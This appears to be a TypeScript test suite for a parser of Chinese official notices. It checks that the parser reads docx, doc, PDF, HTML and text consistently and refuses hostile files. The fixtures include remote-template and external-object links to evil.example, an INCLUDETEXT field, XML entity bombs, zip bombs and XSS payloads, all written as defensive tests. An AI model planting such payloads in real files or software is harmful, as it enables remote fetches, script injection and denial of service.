/** Notices as offices send them, in every format and in every hostile one, through real children that are really killed. */
import { createHash } from 'node:crypto'
import { mkdtemp, rm, writeFile } from 'node:fs/promises'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { buffer } from 'node:stream/consumers'
import { afterAll, beforeAll, describe, expect, test } from 'vitest'
import { ZipFile } from 'yazl'
import { ChildPool } from '#server/inspection/child-pool'
import { closeInspectors } from '#server/inspection/inspect-file'
import type { NoticeOutcome, NoticeRead } from '#server/inspection/notice-job'
import { readNoticeFile } from '#server/inspection/read-notice-file'
import { unzip } from '../documents/unzip'
import * as sample from './notice-files'

let folder: string
beforeAll(async () => { folder = await mkdtemp(join(tmpdir(), 'xuanshu-notices-')) })
afterAll(async () => {
  closeInspectors()
  await rm(folder, { recursive: true, force: true })
})

let files = 0
const stored = async (bytes: Uint8Array | string): Promise<string> => {
  const path = join(folder, String(files++))
  await writeFile(path, bytes)
  return path
}
const outcomeOf = async (bytes: Uint8Array | string): Promise<NoticeOutcome> => readNoticeFile({ path: await stored(bytes) })
const read = async (bytes: Uint8Array | string): Promise<NoticeRead> => {
  const outcome = await outcomeOf(bytes)
  if (!outcome.ok) throw new Error(JSON.stringify(outcome.finding))
  return outcome.notice
}
/** What was said against it, in Chinese; an error when it was read. */
const refused = async (bytes: Uint8Array | string): Promise<readonly [code: string, what: string]> => {
  const outcome = await outcomeOf(bytes)
  if (outcome.ok) throw new Error(`read: ${outcome.notice.text.slice(0, 200)}`)
  const { code, what, mend, strength } = outcome.finding
  expect([strength, mend.zh.length > 5, mend.en.length > 5, what.en.length > 5]).toEqual(['block', true, true, true])
  return [code, what.zh]
}
const zipped = async (parts: Readonly<Record<string, Buffer | string>>): Promise<Buffer> => {
  const zip = new ZipFile()
  for (const [name, data] of Object.entries(parts)) zip.addBuffer(Buffer.from(data), name)
  zip.end()
  return buffer(zip.outputStream as never)
}
/** The sample Word file with parts added or replaced. */
const docxWith = async (parts: Readonly<Record<string, Buffer | string>>): Promise<Buffer> => zipped({ ...Object.fromEntries(await unzip(await sample.docx())), ...parts })
const relations = (links: string): string => `<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">${links}</Relationships>`
const office = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships'
const body = (inside: string): string => `<?xml version="1.0" encoding="UTF-8"?><w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body>${inside}</w:body></w:document>`
const p = (inside: string): string => `<w:p>${inside}</w:p>`
const r = (text: string, properties = ''): string => `<w:r>${properties}<w:t>${text}</w:t></w:r>`
/** Bytes by chance, the same in every run. */
const noise = (length: number): Buffer => Buffer.concat(Array.from({ length: Math.ceil(length / 64) }, (_, i) => createHash('sha512').update(String(i)).digest())).subarray(0, length)

describe('the same notice', () => {
  test('gives the same facts in every format, each with its own words', async () => {
    const plain = await read(sample.asText)
    expect([plain.reading.facts.docNumber, plain.reading.facts.quota.map((q) => q.max), plain.reading.facts.deadlines.map((d) => d.date), plain.reading.facts.ageLimit?.max, plain.reading.facts.materials.length])
      .toEqual(['云示医会发〔2026〕12号', [2, 1], ['2026-05-20'], 60, 2])
    for (const [name, bytes] of Object.entries(await sample.everyFormat())) {
      const notice = await read(bytes)
      expect([name, notice.reading.facts]).toEqual([name, plain.reading.facts])
      const at = notice.reading.places['deadlines[0]']!
      expect([name, notice.text.slice(at.from, at.to).replaceAll(/\s/g, '').includes('2026年5月20日')]).toEqual([name, true])
    }
  })

  test('is told by its bytes and says the encoding it was read in', async () => {
    const told = Object.entries(await sample.everyFormat()).map(async ([name, bytes]) => { const n = await read(bytes); return [name, n.kind, n.encoding, n.warnings.map((w) => w.code)] })
    expect(await Promise.all(told)).toEqual([
      ['UTF-8', 'text', 'UTF-8', []], ['UTF-8 with a byte order mark', 'text', 'UTF-8', []], ['GB18030', 'text', 'GB18030', []], ['UTF-16', 'text', 'UTF-16LE', []],
      ['HTML in UTF-8', 'html', 'UTF-8', []], ['HTML in GBK', 'html', 'GB18030', []], ['docx', 'docx', null, []], ['doc', 'doc', null, ['notice.numbersLost']], ['pdf', 'pdf', null, []],
    ])
  })

  test('reads line for line in Word, numbers that Word counts and rows of tables included', async () => {
    const all = sample.lines.join('\n')
    expect([(await read(await sample.docx())).text, (await read(sample.doc())).text, (await read(sample.html('utf-8'))).text]).toEqual([all, all, all])
    expect((await read(await sample.docx({ footnote: '学术部设在示例路1号。' }))).text).toBe(`${all}\n\n学术部设在示例路1号。`)
  })

  test('keeps the lines of a PDF as they stand on the page', async () => {
    const { text } = await read(await sample.pdf())
    expect(text.split('\n').slice(0, 3).map((line) => line.replaceAll(' ', ''))).toEqual(['云川省示例医学会关于开展2026年“云川最美科', '技工作者”推荐工作的通知', '云示医会发〔2026〕12号'])
  })

  test('with another number, day or age gives other facts', async () => {
    const changed = sample.lines.map((line) => line.replace('限报2名', '限报4名').replace('5月20日', '6月2日').replace('60周岁', '45周岁'))
    for (const bytes of [Buffer.from(changed.join('\n')), sample.doc(changed.join('\r')), await sample.pdf(changed)]) {
      const { facts } = (await read(bytes)).reading
      expect([facts.quota.map((q) => q.max), facts.deadlines.map((d) => d.date), facts.ageLimit?.max]).toEqual([[4, 1], ['2026-06-02'], 45])
    }
  })
})

describe('of Word files', () => {
  test('what was deleted or hidden is not read, and both are said', async () => {
    const bytes = await docxWith({ 'word/document.xml': body([
      p(r('每市医学会限报') + `<w:del w:id="1">${r('9').replaceAll('w:t>', 'w:delText>')}</w:del><w:ins w:id="2">${r('2')}</w:ins>` + r('名。')),
      p(r('内部掌握：限报7名。', '<w:rPr><w:vanish/></w:rPr>')), p(r('请于2026年5月20日前报送。')),
    ].join('')) })
    const notice = await read(bytes)
    expect([notice.text, notice.warnings.map((w) => w.code)]).toEqual(['每市医学会限报2名。\n\n请于2026年5月20日前报送。', ['notice.trackedChanges', 'notice.hiddenText']])
  })

  test('a text box is read once, a field by its result', async () => {
    const box = `<w:txbxContent>${p(r('云示医会发〔2026〕12号'))}</w:txbxContent>`
    const bytes = await docxWith({ 'word/document.xml': body(p(`<w:r><mc:AlternateContent><mc:Choice>${box}</mc:Choice><mc:Fallback>${box}</mc:Fallback></mc:AlternateContent></w:r>`)
      + p(`<w:r><w:instrText>INCLUDETEXT "http://evil.example/a"</w:instrText></w:r>${r('限报2名。')}`)) })
    expect((await read(bytes)).text).toBe('云示医会发〔2026〕12号\n\n限报2名。')
  })

  test.each([
    ['a template', `<Relationship Id="r1" Type="${office}/attachedTemplate" Target="http://evil.example/t.dotm" TargetMode="External"/>`, 'word/_rels/settings.xml.rels', '模板（http://evil.example/t.dotm）'],
    ['a picture, in words that hide it', `<Relationship Id="r1" TargetMode='&#69;xternal' Target="\\\\evil.example\\a.png" Type="${office}/image"/>`, 'word/_rels/document.xml.rels', '图片（\\\\evil.example\\a.png）'],
    ['an object', `<Relationship Id="r1" Type="${office}/oleObject" Target="file:///c:/a.xls" TargetMode="External"/>`, 'word/_rels/footnotes.xml.rels', '嵌入对象（file:///c:/a.xls）'],
  ])('%s that would be fetched from outside is refused and named', async (_, link, part, named) => {
    expect(await refused(await docxWith({ [part]: relations(link) }))).toEqual(['notice.outside', `这个 .docx 会到文件之外去取${named}，没有打开`])
  })

  test.each([
    ['a hyperlink waits for a click', `<Relationship Id="r9" Type="${office}/hyperlink" Target="https://example.org/" TargetMode="External"/>`],
    ['the office’s own template lies on its own disk', `<Relationship Id="r9" Type="${office}/attachedTemplate" Target="file:///D:\\模板\\公文.dotx" TargetMode="External"/>`],
  ])('%s and is no reason', async (_, link) => {
    expect((await read(await docxWith({ 'word/_rels/footnotes.xml.rels': relations(link) }))).text).toBe(sample.lines.join('\n'))
  })

  test('macros are refused in .docx and left unrun in .doc', async () => {
    expect((await refused(await docxWith({ 'word/vbaProject.bin': 'x' })))[0]).toBe('notice.macros')
    const old = await read(sample.doc(undefined, { streams: { Macros: Buffer.from('x') } }))
    expect([old.text, old.warnings.map((w) => w.code)]).toEqual([sample.lines.join('\n'), ['notice.numbersLost', 'notice.macrosUnused']])
  })

  test('a password is said, before and since 2007', async () => {
    expect(await refused(sample.doc(undefined, { locked: true }))).toEqual(['notice.locked', '这个文件（.doc）加了打开密码'])
    expect(await refused(sample.ole({ EncryptionInfo: Buffer.from('x'), EncryptedPackage: Buffer.from('x') }))).toEqual(['notice.locked', '这个文件（.docx）加了打开密码'])
  })

  test.each([['Workbook', '旧版 Excel 工作簿（.xls）'], ['PowerPoint Document', '旧版演示文稿（.ppt）'], ['__properties_version1.0', '邮件（.msg）'], ['Whatever', '别的程序的文件（OLE）']])('an OLE file of %s is no Word document', async (stream, kind) => {
    expect(await refused(sample.ole({ [stream]: Buffer.from('x') }))).toEqual(['notice.notWord', `这不是 Word 文档，而是${kind}`])
  })

  test('zip bombs: by what the directory claims, by what comes out, by a part too long', async () => {
    const parts = { '[Content_Types].xml': '<Types/>', 'word/styles.xml': '<w:styles/>' }
    expect((await refused(await zipped({ ...parts, 'word/document.xml': Buffer.alloc(40_000_000, 32) })))[0]).toBe('notice.bomb')
    expect((await refused(await zipped({ ...parts, 'word/document.xml': Buffer.alloc(40_000_000, '<w:p/>'.repeat(9)), 'word/media/a.bin': noise(1_000_000) })))[0]).toBe('notice.bomb')
    const lying = await zipped({ ...parts, 'word/document.xml': body(p(r('一'))).padEnd(9_000_000) })
    const claim = Buffer.from([0xa0, 0, 0, 0])
    lying.set(claim, lying.lastIndexOf(Buffer.from('word/document.xml')) - 22)
    expect((await refused(lying))[0]).toBe('notice.bomb')
  })

  test('damaged, with entities of its own, or nested without end, it is refused and nothing falls over', async () => {
    const whole = await sample.docx()
    const bomb = '<!DOCTYPE x [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;">]>'
    expect([(await refused(whole.subarray(0, whole.length - 200)))[0], (await refused(await docxWith({ 'word/document.xml': body(p(r('&b;'))).replace('<w:document', `${bomb}<w:document`) })))[0]]).toEqual(['notice.broken', 'notice.broken'])
    expect((await refused(await docxWith({ 'word/document.xml': body('<w:tbl><w:tr><w:tc>'.repeat(100_000)) })))[0]).toBe('notice.empty')
    expect((await refused(Buffer.concat([sample.doc().subarray(0, 4096), noise(4096)])))[0]).toBe('notice.broken')
  })

  test('other things in a zip are named', async () => {
    const kinds = [{ '[Content_Types].xml': 'x', 'xl/workbook.xml': 'x' }, { 'OFD.xml': 'x' }, { 'a.txt': 'x' }].map(async (parts) => (await refused(await zipped(parts)))[1])
    expect(await Promise.all(kinds)).toEqual(['这是Excel 工作簿，不是能读出文字的通知', '这是OFD 版式文件，不是能读出文字的通知', '这是压缩包，不是能读出文字的通知'])
  })
})

describe('of PDFs', () => {
  const pdfOf = (objects: readonly string[], trailer = ''): Buffer => {
    let text = '%PDF-1.7\n'
    const offsets = objects.map((object, n) => { const at = text.length; text += `${n + 1} 0 obj\n${object}\nendobj\n`; return at })
    return Buffer.from(`${text}xref\n0 ${objects.length + 1}\n0000000000 65535 f \n${offsets.map((at) => `${String(at).padStart(10, '0')} 00000 n \n`).join('')}trailer\n<</Size ${objects.length + 1}/Root 1 0 R${trailer}>>\nstartxref\n${text.length}\n%%EOF\n`, 'latin1')
  }
  const pages = (count: number): string[] => ['<</Type/Catalog/Pages 2 0 R>>', `<</Type/Pages/Count ${count}/Kids[${Array.from({ length: count }, (_, n) => `${n + 3} 0 R`).join(' ')}]>>`, ...Array.from({ length: count }, () => '<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]>>')]
  const key = '00'.repeat(32)

  test('one without text says so and offers to paste', async () => {
    const outcome = await outcomeOf(await sample.scan())
    expect(outcome).toMatchObject({ ok: false, finding: { code: 'notice.noText', mend: { zh: '请向发文单位要 Word 或带文字的 PDF，或者把通知文字粘贴进来。' } } })
  })

  test('a password, damage and more pages than a notice has', async () => {
    expect((await refused(pdfOf([...pages(1), `<</Filter/Standard/V 1/R 2/O<${key}>/U<${key}>/P -4>>`], `/Encrypt 4 0 R/ID[<${key}><${key}>]`)))[0]).toBe('notice.locked')
    expect((await refused((await sample.pdf()).subarray(0, 3000)))[0]).toBe('notice.broken')
    expect((await refused(pdfOf(pages(501))))[0]).toBe('notice.tooLong')
  })

  test('pages that hold no text are counted', async () => {
    const notice = await read(await sample.pdf([...sample.lines, ...Array.from({ length: 13 }, () => '　')]))
    expect(notice.warnings.map((w) => [w.code, w.what.zh])).toEqual([['notice.pagesWithoutText', '第 2 页没有文字，可能是扫描页']])
  })
})

describe('of web pages', () => {
  test('scripts, styles, what is hidden and what stands around every page are no text, and nothing comes back as markup', async () => {
    const more = '<img src=x onerror="alert(1)"><svg><script>alert(2)</script></svg><iframe srcdoc="<p>限报98名</p>"></iframe><p style="display:none">限报97名</p><template><p>限报96名</p></template><a href="javascript:alert(3)">点这里</a><noscript><p>限报95名</p></noscript><div class="sidebar">限报94名</div>'
    expect((await read(sample.html('utf-8', more))).text).toBe(`${sample.lines.join('\n')}\n点这里`)
  })

  test('a notice that a site keeps in what it calls its sidebar is read all the same', async () => {
    const page = `<html><body><aside>${sample.lines.map((line) => `<p>${line.replaceAll('\t', '：')}</p>`).join('')}</aside></body></html>`
    expect((await read(page)).reading.facts.quota.map((q) => q.max)).toEqual([2, 1])
  })

  test('lists count, lines of the source are no lines of the page, and typed numbers are not doubled', async () => {
    const page = '<div><ol style="list-style-type: cjk-ideographic"><li>推荐名额<ol><li>每市\n  限报2名</li><li value="5">专科分会限报1名</li></ol></li><li>二、推荐条件</li></ol><pre>甲  乙\n丙</pre></div>'
    expect((await read(page)).text).toBe('一、推荐名额\n1. 每市限报2名\n5. 专科分会限报1名\n二、推荐条件\n甲 乙\n丙')
  })

  // Refused by its depth or its number of elements, or found to be no notice: none takes the child to its limit of time.
  test.each(['<div>', '<a><table><b>', '<b>', '<p>限报2名', '<!--', '<select><option>'])('5 MB of %s is refused in words, and the next notice is read by the same child', async (piece) => {
    const hasty = new ChildPool({ children: 1, milliseconds: 20_000, residentBytes: 512 * 1024 * 1024 })
    const page = Buffer.concat([Buffer.from('<html><body>'), Buffer.alloc(5 * 1024 * 1024 - 20, piece)])
    const outcome = await readNoticeFile({ path: await stored(page) }, hasty)
    const [pid] = hasty.pids
    expect([outcome.ok, ['notice.tooHeavy', 'notice.tooLong', 'notice.empty'].includes(outcome.ok ? '' : outcome.finding.code)]).toEqual([false, true])
    expect((await readNoticeFile({ path: await stored(sample.asText) }, hasty)).ok).toBe(true)
    expect(hasty.pids).toEqual([pid])
    hasty.close()
  })
})

describe('of plain text', () => {
  test('nothing, nonsense and too much', async () => {
    expect([(await refused(''))[0], (await refused(' \n\t\n'))[0]]).toEqual(['notice.empty', 'notice.empty'])
    expect((await refused(noise(5 * 1024 * 1024)))[0]).toBe('notice.notText')
    expect((await refused('啊'.repeat(1_700_000)))[0]).toBe('notice.tooLong')
    expect(await refused(Buffer.alloc(5 * 1024 * 1024 + 1, 'a'))).toEqual(['notice.tooLarge', '文件有 5.0 MB，超过 5.0 MB'])
    expect((await refused(Buffer.concat([Buffer.from('MZ'), noise(5000)])))[1]).toBe('这是程序，不是能读出文字的通知')
    expect((await refused('{\\rtf1\\ansi x}'))[1]).toBe('这是RTF 文件，不是能读出文字的通知')
  })

  test('what is about something else gives few facts and says so', async () => {
    expect((await read('今天天气很好。')).warnings.map((w) => w.code)).toEqual(['notice.otherSubject'])
  })

  test('where the encoding is uncertain the likeliest is taken and named', async () => {
    const torn = Buffer.from(sample.asText)
    torn[torn.indexOf('名额') + 1] = 0xff
    const notice = await read(torn)
    expect([notice.encoding, notice.warnings.map((w) => w.what.zh), notice.reading.facts.docNumber]).toEqual(['UTF-8', ['文字编码拿不准，按 UTF-8 读，有的字已经损坏'], '云示医会发〔2026〕12号'])
    const unmarked = await read(Buffer.from(sample.asText, 'utf16le'))
    expect([unmarked.encoding, unmarked.reading.facts.quota.length]).toEqual(['UTF-16LE', 2])
    const halves = await read(Buffer.concat([sample.gb(sample.asText), Buffer.from([0xff])]))
    expect([halves.encoding, halves.warnings.map((w) => w.code)]).toEqual(['GB18030', ['notice.encodingUnsure']])
  })

  test('pasted words are read like a file, and characters that nobody sees or stores are left out', async () => {
    const outcome = await readNoticeFile({ text: `\u0000${sample.asText.replace('限报', '限\u200b报')}\ud800` })
    expect(outcome.ok && [outcome.notice.kind, outcome.notice.encoding, outcome.notice.text]).toEqual(['text', null, `${sample.lines.join('\n')}\n\ufffd`])
    expect(await readNoticeFile({ text: '\u200b \n' })).toMatchObject({ ok: false, finding: { code: 'notice.empty' } })
  })
})

test('a child that hangs is killed, the file is told to be too much, and the next one is read', async () => {
  const pool = new ChildPool({ children: 1, milliseconds: 5_000, residentBytes: 2 ** 30 })
  const path = await stored(sample.asText)
  expect((await readNoticeFile({ path }, pool)).ok).toBe(true)
  const [stopped] = pool.pids
  process.kill(stopped!, 'SIGSTOP')
  expect(await readNoticeFile({ path }, pool)).toMatchObject({ ok: false, finding: { code: 'notice.tooHeavy' } })
  expect([(await readNoticeFile({ path }, pool)).ok, pool.pids.includes(stopped!)]).toEqual([true, false])
  pool.close()
})

test('a file that is gone is our fault, and is thrown', async () => {
  await expect(readNoticeFile({ path: join(folder, 'gone') })).rejects.toThrow('ENOENT')
})
